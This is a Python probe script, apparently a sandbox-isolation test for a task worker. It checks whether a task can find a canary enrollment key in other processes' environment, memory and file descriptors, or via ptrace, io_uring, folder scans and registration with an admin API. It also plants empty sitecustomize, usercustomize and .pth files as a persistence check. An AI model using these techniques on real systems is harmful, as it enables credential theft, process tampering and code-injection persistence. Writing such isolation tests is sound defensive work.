"""A task that wants what its worker is trusted with. Reads the task from stdin and prints, as JSON, what it got.

The payload says what to look for (`needle`, a part of the enrollment key that no guess finds), where (`folders`), and whom
to register with (`admin`). Its own argument and stdin hold the needle too, so it looks everywhere but at itself.
"""

import ctypes
import errno
import json
import os
import re
import site
import socket
import sys
import urllib.error
import urllib.request

payload = json.load(sys.stdin)["payload"]
needle = payload["needle"].encode()
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH, SIGCONT, SIGKILL = 16, 17, 18, 9
IO_URING_SETUP = 425

opened: list[str] = []
"""What of another process could be opened or traced, or whom a signal reached."""
found: list[str] = []
"""Where the needle was."""
planted: list[str] = []
"""Where code was left that others run."""


def look(what: str, read) -> None:
    try:
        content = read()
    except OSError:
        return
    opened.append(what)
    if needle in content:
        found.append(what)


def bytes_of(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


def memory_of(pid: int) -> bytes:
    parts = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for start, end in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps.read(), re.MULTILINE):
            try:
                memory.seek(int(start, 16))
                parts.append(memory.read(int(end, 16) - int(start, 16)))
            except (OSError, OverflowError, ValueError):
                continue
    return b"".join(parts)


def descriptors_of(pid: int) -> bytes:
    folder = f"/proc/{pid}/fd"
    contents = []
    for number in os.listdir(folder):
        target = os.readlink(f"{folder}/{number}")
        contents.append(target.encode())
        # A pipe would block, or take from the worker what it waits for.
        if target.startswith("/") and os.path.isfile(target):
            contents.append(bytes_of(f"{folder}/{number}"))
    return b"\n".join(contents)


def trace(pid: int) -> bytes:
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise OSError
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, None, SIGCONT)
    return b""


def others() -> list[tuple[int, str]]:
    """The worker's processes and those of its other tasks, by the programs that they run."""
    named = []
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        try:
            arguments = bytes_of(f"/proc/{pid}/cmdline").decode().split("\0")
        except OSError:
            continue
        # Everyone may read arguments: no secret may be in any.
        if needle.decode() in " ".join(arguments) and pid != os.getpid():
            found.append(f"arguments of {arguments[0]}")
        program = next((os.path.basename(a) for a in arguments if a.startswith(payload["programs"]) and a.endswith(".py")), None)
        if program and pid != os.getpid():
            named.append((pid, program))
    return named


def plant(path: str) -> None:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").close()
    except OSError:
        return
    planted.append(path)


def register(key: str) -> int:
    body = {"name": "stranger", "models": ["gpt-4o"], "pool": payload["pool"], "enrollment_key": key}
    headers = {"X-Enrollment-Key": key, "X-Project-ID": "another-project", "Content-Type": "application/json"}
    request = urllib.request.Request(f"{payload['admin']}/api/v1/fleet/register", json.dumps(body).encode(), headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


for pid, program in others():
    look(f"environment of {program}", lambda: bytes_of(f"/proc/{pid}/environ"))
    look(f"memory of {program}", lambda: memory_of(pid))
    look(f"descriptors of {program}", lambda: descriptors_of(pid))
    look(f"trace of {program}", lambda: trace(pid))
    if payload["kills"]:
        look(f"signal to {program}", lambda: os.kill(pid, SIGKILL) or b"")

def connect() -> bytes:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.connect(payload["socket"])
    return b""


def open_ring() -> bytes:
    """Its calls open sockets that no filter of calls sees."""
    libc.syscall(IO_URING_SETUP, 1, None)
    if ctypes.get_errno() == errno.ENOSYS:
        raise OSError
    return b""


look("socket", connect)
look("ring", open_ring)

for folder in payload["folders"]:
    for parent, _, names in os.walk(folder):
        for name in names:
            look(f"file {name}", lambda: bytes_of(os.path.join(parent, name)))

if payload["plants"]:
    for folder in [payload["files"], os.path.dirname(os.getcwd()), payload["home"]]:
        for name in ("lean.py", "sitecustomize.py", "usercustomize.py", "json.py"):
            plant(os.path.join(folder, name))
    plant(os.path.join(payload["files"], "__pycache__", "lean.cpython-311.pyc"))
    plant(os.path.join(payload["home"], *site.getusersitepackages().split("/")[-4:], "usercustomize.py"))
    for folder in site.getsitepackages():
        path = os.path.join(folder, "llm-gateway-test.pth")
        plant(path)
        # All programs of this machine that use Sagewai's environment would run it.
        if path in planted:
            os.remove(path)

# What it may have: its own environment, whose key of the pool is no enrollment key.
registered = [register(key) for key in (os.environ["LITELLM_PROXY_API_KEY"], "", *found)]
print(json.dumps({"opened": sorted(set(opened)), "found": found, "planted": planted, "registered": registered}))
